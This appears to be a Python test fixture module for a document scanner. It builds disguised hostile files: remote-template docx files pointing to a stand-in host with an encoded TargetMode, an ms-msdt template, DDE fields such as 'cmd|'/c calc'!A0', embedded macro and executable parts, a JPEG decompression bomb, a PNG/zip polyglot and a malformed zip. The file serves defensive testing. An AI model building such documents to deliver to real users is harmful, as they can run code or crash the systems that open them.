"""Papers that would act once somebody opens them, in the disguises that a look at the text alone does not see."""

from __future__ import annotations

import io
import zipfile
from types import MappingProxyType
from typing import TYPE_CHECKING

from PIL import Image

from tests.kit.hostile import MAIN, W, docx, paragraph, program_in_a_cell, relations, remote_template, xlsx, zipped

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping


def related(kind: str, part: str, body: bytes | str = b"") -> bytes:
    """Give a docx whose text has one more part, by a relationship of this kind."""
    rows = relations(("r1", kind, part))
    return docx(paragraph("a"), extra={f"word/{part}": body, "word/_rels/document.xml.rels": rows})


def macro_sheet() -> bytes:
    """Give an xlsx one sheet of which is of macros, by its relationship alone."""
    rows = relations(("r1", "worksheet", "worksheets/sheet1.xml"), ("r2", "xlMacrosheet", "worksheets/sheet2.xml"))
    return xlsx("", **{"xl/_rels/workbook.xml.rels": rows, "xl/worksheets/sheet2.xml": f'<worksheet xmlns="{MAIN}"/>'})


def disguised_template(mode: str, encoding: str) -> bytes:
    """Give a docx that fetches its template, said in a way that a look at the bytes alone does not see."""
    row = relations(("r1", "attachedTemplate", "https://example.invalid/t.dotm"), mode=f' TargetMode="{mode}"')
    return docx(paragraph("a"), extra={"word/_rels/settings.xml.RELS": row.encode(encoding)})


def open_document(body: str) -> bytes:
    """Give an .odt of this text."""
    names = "".join(f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "text"))
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"<office:document-content{names}><office:body><office:text>{body}"
            "</office:text></office:body></office:document-content>",
        }
    )


def dde_in_a_header() -> bytes:
    """Give a docx whose header holds a DDE field in one element."""
    field = f'<w:hdr xmlns:w="{W}"><w:p><w:fldSimple w:instr=" ddeauto c:\\x"/></w:p></w:hdr>'
    return docx(paragraph("a"), extra={"word/header1.xml": field})


def quoted_dde() -> bytes:
    """Give a docx whose DDE field is written by the numbers of its characters, within another field."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>' for step in ("begin", "end"))
    inner = f"{begin}<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 32 99 </w:instrText></w:r>{end}"
    return docx(f"<w:p>{begin}{inner}{end}</w:p>")


def two_faced_zip() -> bytes:
    """Give a docx one part of which is packed by its entry in the directory and plain by its own header."""
    body = bytearray(docx(paragraph("a")))
    body[8] = zipfile.ZIP_STORED
    return bytes(body)


def passes_without_end() -> bytes:
    """Give a JPEG that goes over one picture twenty thousand times (ITU-T T.81, G.1)."""
    target = io.BytesIO()
    Image.new("L", (3_000, 3_000), "white").save(target, "jpeg", progressive=True)
    body = target.getvalue()
    last = body.rindex(b"\xff\xda")
    return body[:-2] + body[last:-2] * 20_000 + body[-2:]


def picture_and_zip() -> bytes:
    """Give a file that is a PNG from its head and a zip from its tail."""
    target = io.BytesIO()
    Image.new("L", (9, 9), "white").save(target, "png")
    return target.getvalue() + zipped({"a.class": b"abc"})


_MACRO, _DDE, _PROGRAM = (frozenset({f"office.{code}"}) for code in ("macro", "dde", "program"))
_REMOTE = frozenset({"office.remote_template"})

# name -> (builder, name of the paper, codes it may be refused with), as `hostile.PAPERS`
PAPERS: Mapping[str, tuple[Callable[[], bytes], str, frozenset[str]]] = MappingProxyType(
    {
        "macro by another name": (lambda: related("vbaProject", "x.bin", b"a"), "a.docx", _MACRO),
        "macro sheet": (macro_sheet, "a.xlsx", _MACRO),
        "template by a program": (lambda: remote_template("ms-msdt:/id x"), "a.docx", _REMOTE),
        "program laid in": (lambda: related("package", "embeddings/x.bin", b"MZ" + b"\0" * 600), "a.docx", _PROGRAM),
        "template of an external by number": (lambda: disguised_template("Ext&#101;rnal", "utf-8"), "a.docx", _REMOTE),
        "template in utf-16": (lambda: disguised_template("External", "utf-16"), "a.docx", _REMOTE),
        "dde in a sheet by number": (lambda: program_in_a_cell("cmd&#x7c;&apos;/c calc&apos;!A0"), "a.xlsx", _DDE),
        "dde in an odt": (lambda: open_document("<text:p/><text:dde-connection-decls/>"), "a.odt", _DDE),
        "dde in a header": (dde_in_a_header, "a.docx", _DDE),
        "quoted dde": (quoted_dde, "a.docx", _DDE),
        "picture and zip": (picture_and_zip, "a.png", frozenset({"type.mismatch"})),
        "script behind a mark": (lambda: b"\xef\xbb\xbf#!/bin/sh\nls\n", "a.txt", frozenset({"type.forbidden"})),
        "settings that run": (lambda: b"<PCSettings/>", "a.SettingContent-ms", frozenset({"type.forbidden"})),
        "slides with macros": (lambda: b"text", "a.ppsm", _MACRO),
        "two-faced zip": (two_faced_zip, "a.docx", frozenset({"zip.malformed"})),
    }
)
